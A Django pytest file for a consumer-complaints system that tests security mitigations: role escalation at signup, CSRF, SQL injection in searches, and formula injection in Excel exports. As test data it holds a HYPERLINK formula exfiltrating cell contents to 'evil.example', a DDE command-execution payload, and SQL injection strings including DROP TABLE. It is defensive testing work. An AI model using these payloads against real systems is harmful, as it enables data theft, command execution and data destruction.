"""Threats from docs/security.md that had a mitigation but no test proving it (the others are proved where the
mitigation lives; the document names each test)."""

import io

import pytest
from django.test import Client
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from fangxin.accounts.choices import Role
from fangxin.accounts.models import User
from fangxin.complaints import exports as complaint_exports
from fangxin.complaints import services as complaint_services
from fangxin.complaints.choices import Channel
from fangxin.complaints.models import Complaint
from fangxin.complaints.tests.factories import PUBLIC
from fangxin.core.import_reports import plain_cells

pytestmark = pytest.mark.django_db
FORMULA = '=HYPERLINK("http://evil.example/steal?c="&A1,"点此查看详情")'
DDE = "=cmd|' /C calc'!A0"


# --- privilege escalation --------------------------------------------------------------------------------------------

def test_signup_cannot_choose_a_role_or_staff_flags(client, reference):
    response = client.post(reverse("accounts:signup"), {
        "username": "sneaky", "full_name": "王五", "phone": "13800009999",
        "password1": "Qz7!long-enough-pass", "password2": "Qz7!long-enough-pass",
        "role": Role.SYSADMIN, "is_staff": "on", "is_superuser": "on", "region": "150802", "department": "amr"})
    assert response.status_code == 302
    user = User.objects.get(username="sneaky")
    assert user.role == Role.MERCHANT and not user.is_staff and not user.is_superuser
    assert user.region_id is None and user.department_id is None


def test_a_merchant_gets_neither_the_admin_nor_a_staff_queue(client, users):
    client.force_login(users["merchant"])
    admin = client.get("/admin/")
    assert admin.status_code == 302 and "/login/" in admin["Location"]
    assert client.get(reverse("complaints:export")).status_code in (403, 404)


# --- CSRF ---------------------------------------------------------------------------------------------------------------

def test_a_state_change_without_the_csrf_token_is_refused(users, entities):
    strict = Client(enforce_csrf_checks=True)
    strict.force_login(users["county_a"])
    assert strict.post(reverse("accounts:logout")).status_code == 403
    anonymous = Client(enforce_csrf_checks=True)
    filed = anonymous.post(reverse("complaints:file"), {"complainant_name": "张三"})
    assert filed.status_code == 403
    assert not Complaint.objects.exists()


# --- injection ----------------------------------------------------------------------------------------------------------

@pytest.mark.parametrize("payload", ["' OR '1'='1' --", "%' OR 1=1; DROP TABLE merchants_marketentity; --",
                                     "\\'; SELECT pg_sleep(5); --", "临河') UNION SELECT username FROM accounts_user --"])
def test_sql_metacharacters_in_public_searches_are_only_text(client, users, entities, payload):
    for url in (reverse("portal:search"), reverse("complaints:entity_lookup")):
        response = client.get(url, {"q": payload})
        assert response.status_code == 200
        page = response.content.decode()
        assert not any(entity.name in page for entity in entities.values())  # nothing matched, nothing leaked
        assert "sysadmin" not in page
    assert client.get(reverse("portal:search"), {"q": "华联"}).content.decode().count("华联") >= 2  # search works


# --- a malicious import file / a formula typed by a consumer -------------------------------------------------------------

def test_a_formula_typed_into_a_complaint_stays_text_in_the_staff_export(users, entities):
    complaint, _ = complaint_services.complaint_submit(
        actor=PUBLIC, channel=Channel.WEB,
        data=complaint_services.ComplaintInput(
            complainant_name="张三", complainant_phone="13800001234", business_name=DDE, item=FORMULA,
            description=FORMULA, demand="退款", region_code="150802"))
    for personal in (True, False):
        sheet = load_workbook(io.BytesIO(complaint_exports.complaints_xlsx([complaint], include_personal=personal)),
                              read_only=False).active
        cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row if isinstance(cell.value, str)]
        assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
        assert DDE in [cell.value for cell in cells] and FORMULA in [cell.value for cell in cells]


@pytest.mark.parametrize("write_only", [True, False])
def test_plain_cells_keeps_formula_text_as_text(write_only):
    book = Workbook(write_only=write_only)
    sheet = book.create_sheet("t") if write_only else book.active
    sheet.append(plain_cells(sheet, [FORMULA, "=1+1", "普通文字", 42, None]))
    buffer = io.BytesIO()
    book.save(buffer)
    row = next(load_workbook(io.BytesIO(buffer.getvalue())).worksheets[0].iter_rows())
    assert [cell.value for cell in row[:4]] == [FORMULA, "=1+1", "普通文字", 42]
    assert [cell.data_type for cell in row[:3]] == ["s", "s", "s"]
